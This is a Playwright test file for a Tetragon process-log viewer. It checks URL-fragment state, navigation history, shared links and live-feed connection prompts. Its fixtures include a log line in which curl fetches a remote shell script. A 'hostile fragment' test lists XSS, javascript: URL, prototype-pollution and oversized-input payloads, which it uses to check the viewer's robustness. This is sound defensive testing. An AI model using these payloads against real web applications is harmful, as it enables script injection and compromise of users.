import { drawLog } from '../src/testing/draw-log'
import { Listener } from './helpers/listener'
import { expect, test } from './helpers/test'

const log = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..9s
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 1s..2s exit 22
`)

test('the fragment holds filter, range, selection and closed pods, and survives a reload', async ({ viewer, page }) => {
  await viewer.goto()
  await viewer.openSample()
  await viewer.twisty(viewer.row('default/tiefighter-6f87496b94-qk2lp')).click()
  await viewer.filter.fill('curl')
  await expect(viewer.status).toContainText('matching')
  await viewer.filter.press('Shift+Enter') // the last match: it has to be scrolled to
  await expect(viewer.selectedRow).toHaveCount(1)
  await viewer.waitForIdle()
  await viewer.focusTree()
  const { after } = await viewer.changeRange(() => page.keyboard.press('w'))
  for (const part of ['src=sample', 'q=curl', 'from=', 'to=', 'sel=', 'closed=']) {
    await expect(page).toHaveURL(new RegExp(`#.*${part}`))
  }
  const name = await viewer.selectedRow.textContent()
  const matches = /matching [\d,]+ of [\d,]+/.exec((await viewer.status.textContent()) ?? '')![0]

  await page.reload()
  await viewer.waitForIdle()
  await expect(viewer.filter).toHaveValue('curl')
  await expect(viewer.status).toContainText(matches)
  expect(await viewer.visibleRange()).toEqual(after)
  await expect(viewer.selectedRow).toBeInViewport()
  expect(await viewer.selectedRow.textContent()).toBe(name)
  await viewer.filter.fill('')
  await page.keyboard.press('Escape')
  await viewer.focusTree()
  await page.keyboard.press('Home')
  await expect(viewer.row('default/tiefighter-6f87496b94-qk2lp')).toHaveAttribute('aria-expanded', 'false')
})

test('Back and Forward go a step back and forth', async ({ viewer, page }) => {
  await viewer.goto()
  await viewer.openSample()
  await viewer.pods.getByRole('button', { name: /^xwing/ }).click()
  await viewer.selectRow('/usr/bin/whoami')
  await expect(page).toHaveURL(/sel=/)
  const first = page.url()
  await viewer.selectRow('/bin/cat /etc/os-release')
  await expect.poll(() => page.url()).not.toBe(first)
  await viewer.filter.fill('netserver')
  await expect(page).toHaveURL(/q=netserver/)

  await page.goBack()
  await expect(viewer.filter).toHaveValue('')
  await expect(viewer.row('/bin/cat /etc/os-release')).toHaveAttribute('aria-selected', 'true')
  await page.goBack()
  await expect(viewer.row('/usr/bin/whoami')).toHaveAttribute('aria-selected', 'true')
  await expect(viewer.details.getByRole('heading', { level: 2 })).toHaveText('/usr/bin/whoami')
  await page.goForward()
  await expect(viewer.row('/bin/cat /etc/os-release')).toHaveAttribute('aria-selected', 'true')
})

test('moving in time leaves no step for Back', async ({ viewer, page }) => {
  await viewer.goto()
  await viewer.dropFiles({ name: 'tetragon.log', content: log.text })
  await viewer.selectRow('/usr/bin/curl')
  await expect(page).toHaveURL(/sel=/)
  const first = page.url()
  await viewer.selectRow('/bin/bash')
  await expect.poll(() => page.url()).not.toBe(first)
  await viewer.changeRange(() => page.keyboard.press('w'))
  await expect(page).toHaveURL(/from=/)
  await viewer.changeRange(() => page.keyboard.press('d'))
  await page.goBack()
  await expect(viewer.row('/usr/bin/curl')).toHaveAttribute('aria-selected', 'true')
})

test('Copy link copies the address of what is on screen', async ({ viewer, page, context }) => {
  await viewer.goto()
  await viewer.openSample()
  await viewer.filter.fill('whoami')
  await expect(viewer.status).toContainText('matching')
  await viewer.filter.press('Enter')
  await expect(viewer.details.getByRole('heading', { level: 2 })).toHaveText('/usr/bin/whoami')
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await viewer.button('Copy link').click()
  await expect(viewer.button('Copied')).toBeVisible()
  const link = await viewer.clipboard()
  await expect(page).toHaveURL(link)

  // a colleague opens it
  await page.goto('about:blank')
  await page.goto(link)
  await viewer.waitForIdle()
  await expect(viewer.details.getByRole('heading', { level: 2 })).toHaveText('/usr/bin/whoami')
  await expect(viewer.row('/usr/bin/whoami')).toHaveAttribute('aria-selected', 'true')
})

test('a link to a view of a local file asks for that file, and then shows the view', async ({
  viewer,
  page,
  folder,
}) => {
  const path = await folder.write('tetragon.log', log.text)
  await viewer.goto()
  await viewer.openFiles(path)
  await viewer.selectRow('/usr/bin/curl')
  await expect(page).toHaveURL(/sel=/)
  const link = page.url()
  await page.goto('about:blank')
  await page.goto(link)
  await expect(page.getByText('This link shows a view of a log that is not in the link.')).toBeVisible()
  await viewer.openFiles(path)
  await expect(viewer.row('/usr/bin/curl')).toHaveAttribute('aria-selected', 'true')
  await expect(viewer.details).toContainText('exit 22')
})

test('a link whose process is not in the log says so', async ({ viewer }) => {
  await viewer.goto('#v=1&src=sample&sel=bm90LWhlcmU6MTox')
  await viewer.waitForIdle()
  await expect(viewer.details).toContainText('The selected process is not in this log.')
  await expect(viewer.row('default/xwing')).toBeVisible()
})

test('a hostile fragment does nothing bad', async ({ viewer, page }) => {
  const fragments = [
    '#%E0%A4%A&&&===',
    '#v=999&src=sample&sel=x',
    '#v=1&q=<img src=x onerror=alert(1)>&sel="><script>alert(2)</script>&closed=<svg onload=alert(3)>',
    '#v=1&closed=__proto__&folded=constructor&sel=__proto__&q=toString',
    '#v=1&feed=javascript:alert(1)&src=javascript:alert(2)',
    '#v=1&src=https://example.com/tetragon.log',
    `#v=1&q=${'a'.repeat(500_000)}&${'closed=x&'.repeat(50_000)}`,
  ]
  for (const fragment of fragments) {
    await page.goto('about:blank')
    await viewer.goto(fragment)
    await expect(viewer.button('Open the sample')).toBeVisible()
    await expect(page.getByRole('dialog')).toHaveCount(0)
    await viewer.dropFiles({ name: 'tetragon.log', content: log.text })
    await expect(viewer.status).toContainText('2 processes')
    await viewer.filter.fill('')
    await expect(viewer.row('/usr/bin/curl')).toBeVisible()
    expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([])
  }
})

test('a link with a range that is none, or far from the log, leaves the page working', async ({ viewer, page }) => {
  const ranges = [
    'from=0001-01-01T00:00:00Z&to=9999-12-31T23:59:59Z',
    'from=1970-01-01T00:00:00Z&to=1970-01-01T00:00:01Z',
    'from=2024-05-14T12:55:00Z&to=2024-05-14T12:54:00Z',
    'from=2024-05-14T12:55:00Z&to=2024-05-14T12:55:00Z',
    'from=yesterday&to=NaN',
  ]
  for (const range of ranges) {
    await page.goto('about:blank')
    await viewer.goto(`#v=1&${range}`)
    await viewer.dropFiles({ name: 'tetragon.log', content: log.text })
    await expect(viewer.status).toContainText('2 processes')
    await viewer.waitForIdle()
    await viewer.focusTree()
    await page.keyboard.press('w')
    await page.keyboard.press('0')
    await expect(viewer.status).toContainText('2024-05-01 09:59:59')
    await expect(viewer.events.getByRole('option')).toHaveCount(4)
  }
})

test.describe('a link with a feed', () => {
  let server: Listener
  test.beforeEach(async () => {
    server = await Listener.start(log.lines)
  })
  test.afterEach(() => server.close())

  test('asks before it connects, names the host, and connects to nothing before', async ({ viewer, page }) => {
    await viewer.goto(`#v=1&feed=ws://${server.host}/events`)
    const dialog = page.getByRole('dialog', { name: 'Connect to a live feed?' })
    await expect(dialog.getByText(server.host, { exact: true })).toBeVisible()
    await dialog.getByRole('button', { name: 'Do not connect' }).click()
    await expect(dialog).toHaveCount(0)
    await expect(viewer.button('Open the sample')).toBeVisible()

    await page.reload()
    await dialog.getByRole('button', { name: 'Connect', exact: true }).click()
    await expect(viewer.row('/usr/bin/curl')).toBeVisible()
    expect(server.connections).toBe(1)
  })

  test('asks for the host it really goes to', async ({ viewer, page }) => {
    await viewer.goto(`#v=1&feed=${encodeURIComponent(`ws://internal.example:80@${server.host}/`)}`)
    const dialog = page.getByRole('dialog', { name: 'Connect to a live feed?' })
    await expect(dialog.getByText(server.host, { exact: true })).toBeVisible()
    await page.keyboard.press('Escape')
    await expect(dialog).toHaveCount(0)
    expect(server.connections).toBe(0)
  })

  test('a link never carries the password of a feed', async ({ viewer, page, context }) => {
    await viewer.goto()
    await viewer.button('Connect').click()
    await page.getByRole('textbox', { name: /Address of a WebSocket/ }).fill(`ws://ann:hunter2@${server.host}/`)
    await page.keyboard.press('Enter')
    await expect(viewer.row('/usr/bin/curl')).toBeVisible()
    await expect(page).toHaveURL(/feed=/)
    expect(page.url()).not.toMatch(/hunter2|ann/)
    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
    await viewer.button('Copy link').click()
    await expect(viewer.button('Copied')).toBeVisible()
    expect(await viewer.clipboard()).toContain(encodeURIComponent(server.host))
    expect(await viewer.clipboard()).not.toMatch(/hunter2|ann/)
  })

  test('the password of a feed is not on screen', async ({ viewer, page }) => {
    await viewer.goto()
    await viewer.button('Connect').click()
    await page.getByRole('textbox', { name: /Address of a WebSocket/ }).fill(`ws://ann:hunter2@${server.host}/`)
    await page.keyboard.press('Enter')
    await expect(viewer.row('/usr/bin/curl')).toBeVisible()
    await expect(page.getByRole('banner')).toContainText(server.host)
    await expect(page.locator('body')).not.toContainText('hunter2', { timeout: 1000 })
  })
})
